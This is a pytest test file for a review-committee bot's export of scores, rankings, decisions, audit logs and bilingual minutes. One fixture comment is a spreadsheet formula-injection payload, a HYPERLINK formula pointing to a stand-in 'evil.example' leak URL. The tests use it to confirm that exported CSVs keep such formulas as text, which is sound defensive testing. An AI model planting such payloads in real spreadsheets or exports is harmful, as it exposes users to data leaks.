"""The review-round export: figures checked by hand, withdrawn scorecards left out, formulas
neutralised in the CSVs, Markdown tables people's text cannot break, minutes in ja and en, the
audit log in order, an unknown round."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, datetime, timedelta

import pytest

from bot.errors import UserError
from bot.render.review_export import (
    aggregation_rows,
    export_round,
    find_round,
    ranking_csv,
    reviewer_labels,
)
from storage.reviews import (
    ReviewAssignment,
    ReviewAudit,
    ReviewConflict,
    ReviewRound,
    ReviewSubject,
    RoundReviewer,
    Scorecard,
)

T0 = datetime(2026, 4, 1, 0, 30, tzinfo=UTC)  # 09:30 JST
DEADLINE = datetime(2026, 4, 20, 9, 0, tzinfo=UTC)  # 18:00 JST
HYPERLINK = '=HYPERLINK("https://evil.example/?leak","click")'
NOTE = "満場一致 | 条件なし\n次回へ"
CRITERIA = [
    {"key": "tech", "name": "技術力", "weight": 3},
    {"key": "plan", "name": "Plan", "weight": 1},
]

# (subject, reviewer) → (tech, plan, recommendation); the weighted score is (3·tech + plan) / 4
SCORES = {
    ("Alpha | Labs", "U1"): (5, 3, "adopt"),  # 4.5
    ("Alpha | Labs", "U2"): (4, 4, "adopt"),  # 4.0
    ("Alpha | Labs", "U3"): (5, 5, "conditional"),  # 5.0
    ("Beta", "U1"): (4, 2, "conditional"),  # 3.5
    ("Beta", "U2"): (3, 3, "reject"),  # 3.0
    ("Beta", "U3"): (1, 1, "reject"),  # 1.0: ≥ 2 below the others' 3.25 → outlier
    ("Gamma", "U1"): (4, 4, "adopt"),  # 4.0
    ("Gamma", "U2"): (3, 5, "conditional"),  # 3.5
}


def make_round(session) -> int:
    """Round "2026 selection": 3 subjects, reviewers U1..U3 (+ U4 withdrawn from Gamma, whose
    scorecard must not count; U3 declared a conflict on Gamma). Returns the round id."""
    round_ = ReviewRound(
        name="2026 selection",
        kind="selection",
        criteria=CRITERIA,
        scale_max=5,
        deadline=DEADLINE,
        stage="scoring",
        chair="U0CHAIR",
        created_at=T0,
    )
    session.add(round_)
    session.flush()
    rid = round_.id
    for user in ("U1", "U2", "U3", "U4"):
        session.add(RoundReviewer(round_id=rid, user_id=user, declared_at=T0))
    subjects = {}
    for name in ("Alpha | Labs", "Beta", "Gamma"):
        subjects[name] = ReviewSubject(round_id=rid, name=name)
        session.add(subjects[name])
    session.flush()
    subjects["Alpha | Labs"].decision = "adopt"
    subjects["Alpha | Labs"].decision_note = NOTE
    subjects["Alpha | Labs"].decided_by = "U0CHAIR"
    subjects["Alpha | Labs"].decided_at = T0 + timedelta(days=21)
    subjects["Beta"].decision = "reject"
    subjects["Beta"].decided_by = "U0CHAIR"
    subjects["Beta"].decided_at = T0 + timedelta(days=21)
    session.add(
        ReviewConflict(round_id=rid, subject_id=subjects["Gamma"].id, user_id="U3", declared_at=T0)
    )
    cards = {key: value for key, value in SCORES.items()}
    cards[("Gamma", "U4")] = (1, 1, "reject")  # withdrawn below
    for (subject, user), (tech, plan, rec) in cards.items():
        sid = subjects[subject].id
        session.add(
            ReviewAssignment(
                round_id=rid,
                subject_id=sid,
                user_id=user,
                assigned_at=T0,
                removed_at=T0 + timedelta(days=2) if user == "U4" else None,
            )
        )
        session.add(
            Scorecard(
                round_id=rid,
                subject_id=sid,
                user_id=user,
                scores={"tech": tech, "plan": plan},
                comments=HYPERLINK if (subject, user) == ("Beta", "U2") else "good",
                recommendation=rec,
                chair_note="CONFIDENTIAL-CHAIR" if user == "U1" else "",
                revision=2 if user == "U2" else 1,
                submitted_at=T0 + timedelta(days=1),
                updated_at=T0 + timedelta(days=3),
            )
        )
    for i, (action, subject) in enumerate(
        [("create_round", None), ("assign", "Gamma"), ("withdraw", "Gamma"), ("decide", "Beta")]
    ):
        session.add(
            ReviewAudit(
                round_id=rid,
                at=T0 + timedelta(hours=i),
                actor="U0CHAIR",
                action=action,
                subject_id=subjects[subject].id if subject else None,
                before=f"b{i}",
                after="=SUM(A1)" if i == 3 else f"a{i}",
            )
        )
    return rid


@pytest.fixture
def exported(session_factory):
    """(round id, {file name: content}) for each language."""
    with session_factory.begin() as session:
        rid = make_round(session)
    with session_factory() as session:
        files = {lang: dict(export_round(session, rid, lang)) for lang in ("en", "ja")}
    return rid, files


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_files_and_names(exported):
    rid, files = exported
    assert list(files["en"]) == [
        f"review-{rid}-scores.csv",
        f"review-{rid}-aggregation.csv",
        f"review-{rid}-decisions.csv",
        f"review-{rid}-audit.csv",
        f"review-{rid}-minutes.md",
    ]
    assert isinstance(files["en"][f"review-{rid}-minutes.md"], str)


def test_aggregation_figures_match_hand_computation(exported):
    rid, files = exported
    rows = _rows(files["en"][f"review-{rid}-aggregation.csv"])
    assert rows[0] == [
        "Rank",
        "Subject",
        "Scorecards",
        "Weighted mean",
        "Standard deviation",
        "z-score",
        "技術力 (mean)",
        "Plan (mean)",
        "Adopt",
        "Adopt with conditions",
        "Reject",
        "Outliers",
        "Decision",
    ]
    # Alpha: 4.5, 4.0, 5.0 → mean 4.5, sample stdev 0.5. z: U1 and U2 score (A, B, C) =
    # (4.5, 3.5, 4.0) / (4.0, 3.0, 3.5): z = +1, −1, 0; U3 (5.0, 1.0): ±1/√2.
    z_alpha = (1 + 1 + 1 / math.sqrt(2)) / 3
    assert f"{z_alpha:.2f}" == "0.90"
    assert rows[1] == [
        "1", "Alpha | Labs", "3", "4.50", "0.50", "0.90", "4.67", "4.00", "2", "1", "0", "0",
        "Adopt",
    ]  # fmt: skip
    # Gamma: 4.0, 3.5 (U4's withdrawn 1.0 does not count) → 3.75, stdev 0.5/√2 = 0.354
    assert rows[2] == [
        "2", "Gamma", "2", "3.75", "0.35", "0.00", "3.50", "4.50", "1", "1", "0", "0", "",
    ]  # fmt: skip
    # Beta: 3.5, 3.0, 1.0 → 2.5, stdev √(3.5/2) = 1.32; U3 (1.0) vs 3.25 is an outlier
    assert rows[3] == [
        "3", "Beta", "3", "2.50", "1.32", "-0.90", "2.67", "2.00", "0", "1", "2", "1", "Reject",
    ]  # fmt: skip
    assert len(rows) == 4


def test_aggregation_rows_and_ranking_csv_directly(session_factory):
    with session_factory.begin() as session:
        rid = make_round(session)
    with session_factory() as session:
        round_ = session.get(ReviewRound, rid)
        results = aggregation_rows(session, round_)
        assert [r.name for r in results] == ["Alpha | Labs", "Gamma", "Beta"]
        assert results[2].outliers == ["U3"]
        assert all(r.z is not None for r in results)
        # without decisions the decision column is there, empty
        rows = _rows(ranking_csv(results, round_, "ja"))
        assert rows[0][0] == "順位" and rows[0][6] == "技術力（平均）" and rows[0][-1] == "決定"
        assert [row[-1] for row in rows[1:]] == ["", "", ""]


def test_scores_csv_one_row_per_scorecard_in_force(exported):
    rid, files = exported
    rows = _rows(files["en"][f"review-{rid}-scores.csv"])
    assert rows[0] == [
        "Subject",
        "Reviewer",
        "Reviewer Slack user ID",
        "技術力",
        "Plan",
        "Weighted score",
        "Recommendation",
        "Comments",
        "Note to the chair (confidential)",
        "Revision",
        "Submitted (UTC)",
        "Updated (UTC)",
    ]
    body = rows[1:]
    assert len(body) == len(SCORES)  # U4's withdrawn scorecard is not there
    assert all(row[2] != "U4" for row in body)
    assert {(row[1], row[2]) for row in body} == {("R1", "U1"), ("R2", "U2"), ("R3", "U3")}
    first = body[0]
    assert first[:7] == ["Alpha | Labs", "R1", "U1", "5", "3", "4.50", "Adopt"]
    assert first[8] == "CONFIDENTIAL-CHAIR" and first[9] == "1"
    assert first[10:] == ["2026-04-02T00:30:00+00:00", "2026-04-04T00:30:00+00:00"]
    beta_u2 = next(row for row in body if row[0] == "Beta" and row[2] == "U2")
    assert beta_u2[7] == "'" + HYPERLINK  # the formula stays text
    assert beta_u2[5] == "3.00" and beta_u2[9] == "2"


def test_reviewer_labels_are_stable_by_joining_order(session_factory):
    with session_factory.begin() as session:
        rid = make_round(session)
    with session_factory() as session:
        assert reviewer_labels(session, rid) == {"U1": "R1", "U2": "R2", "U3": "R3", "U4": "R4"}


def test_decisions_csv(exported):
    rid, files = exported
    rows = _rows(files["ja"][f"review-{rid}-decisions.csv"])
    assert rows[0] == ["審査対象", "決定", "備考", "決定者", "決定日時（UTC）", "通知日時（UTC）"]
    assert rows[1] == ["Alpha | Labs", "採択", NOTE, "U0CHAIR", "2026-04-22T00:30:00+00:00", ""]
    assert rows[2][:2] == ["Beta", "不採択"]
    assert rows[3] == ["Gamma", "", "", "", "", ""]


def test_audit_csv_in_order_with_subject_names(exported):
    rid, files = exported
    rows = _rows(files["en"][f"review-{rid}-audit.csv"])
    assert rows[0] == ["When (UTC)", "Actor", "Action", "Subject", "Before", "After"]
    assert [row[2] for row in rows[1:]] == ["create_round", "assign", "withdraw", "decide"]
    assert [row[3] for row in rows[1:]] == ["", "Gamma", "Gamma", "Beta"]
    assert rows[1][0] == "2026-04-01T00:30:00+00:00"
    assert rows[4][5] == "'=SUM(A1)"


def _table_rows(markdown: str, first_cell: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith(f"| {first_cell}")]


def _cells(line: str) -> int:
    """Columns of a Markdown table row: unescaped pipes − 1."""
    pipes = sum(1 for i, c in enumerate(line) if c == "|" and (i == 0 or line[i - 1] != "\\"))
    return pipes - 1


def test_minutes_in_english(exported):
    rid, files = exported
    md = files["en"][f"review-{rid}-minutes.md"]
    assert md.startswith("# Review committee minutes: 2026 selection\n")
    assert "- Kind: Selection review" in md
    assert "- Scale: 1–5 points per criterion" in md
    assert "- Scoring deadline: 2026-04-20 18:00 JST (2026-04-20 09:00 UTC)" in md
    assert "- Reviewers: 4" in md and "- Conflicts of interest declared: 1" in md
    assert "| 技術力 | 3 |" in md and "| Plan | 1 |" in md
    # ranking table: mean ± stdev, z, recommendation counts, outliers
    assert "| 1 | Alpha \\| Labs | 3 | 4.50 ± 0.50 | 0.90 | 2 / 1 / 0 | — | Adopt |" in md
    assert "| 2 | Gamma | 2 | 3.75 ± 0.35 | 0.00 | 1 / 1 / 0 | — | — |" in md
    assert "| 3 | Beta | 3 | 2.50 ± 1.32 | -0.90 | 0 / 1 / 2 | R3 | Reject |" in md
    assert "- Beta: R3 scored 1.00 (the others 3.25 on average)" in md
    # the decision note with a pipe and a newline stays in its row and cell
    (alpha,) = _table_rows(md, "Alpha")
    assert "満場一致 \\| 条件なし 次回へ" in alpha
    assert _cells(alpha) == 5
    header = next(line for line in md.splitlines() if line.startswith("| Subject | Decision"))
    assert _cells(header) == 5
    assert "Not decided" in _table_rows(md, "Gamma")[-1]
    assert "sample standard deviation" in md and "2 points or more" in md
    assert "4 entries in the audit log" in md
    assert "By action: create\\_round 1, assign 1, withdraw 1, decide 1" in md
    # confidential and personal: no chair note, no comment, no Slack user of a reviewer
    for secret in ("CONFIDENTIAL-CHAIR", "HYPERLINK", "U1", "U3"):
        assert secret not in md


def test_minutes_in_japanese(exported):
    rid, files = exported
    md = files["ja"][f"review-{rid}-minutes.md"]
    assert md.startswith("# 審査委員会 議事録: 2026 selection\n")
    assert "- 種別: 採択審査" in md
    assert "- 評価締切: 2026-04-20 18:00 JST（2026-04-20 09:00 UTC）" in md
    assert "- 審査委員: 4 名" in md and "- 利益相反の申告: 1 件" in md
    assert "| 3 | Beta | 3 | 2.50 ± 1.32 | -0.90 | 0 / 1 / 2 | R3 | 不採択 |" in md
    assert "## 集計方法" in md and "標本標準偏差" in md
    assert "操作記録は 4 件です" in md
    assert "未決定" in md
    (alpha,) = _table_rows(md, "Alpha")
    assert _cells(alpha) == 5


def test_empty_round(session_factory):
    with session_factory.begin() as session:
        session.add(
            ReviewRound(
                name="empty",
                kind="end_of_term",
                criteria=[],
                deadline=DEADLINE,
                chair="U0CHAIR",
                created_at=T0,
            )
        )
    with session_factory() as session:
        rid = find_round(session, "empty").id
        files = dict(export_round(session, rid, "en"))
    md = files[f"review-{rid}-minutes.md"]
    assert "End-of-term evaluation" in md and "The round has no subjects." in md
    assert "0 entries in the audit log" in md
    assert len(_rows(files[f"review-{rid}-aggregation.csv"])) == 1


def test_find_round_by_id_or_exact_name_and_unknown(session_factory):
    with session_factory.begin() as session:
        rid = make_round(session)
    with session_factory() as session:
        assert find_round(session, str(rid)).id == rid
        assert find_round(session, rid).id == rid
        assert find_round(session, "2026 selection").id == rid
        with pytest.raises(UserError) as caught:
            find_round(session, "2026 Selection")
        assert "2026 Selection" in caught.value.en and f"{rid}: 2026 selection" in caught.value.en
        assert "見つかりません" in caught.value.ja
        with pytest.raises(UserError):
            export_round(session, 999, "ja")


def test_unknown_round_in_an_empty_database(session_factory):
    with session_factory() as session, pytest.raises(UserError) as caught:
        find_round(session, "7")
    assert "no rounds yet" in caught.value.en and "審査はまだありません" in caught.value.ja
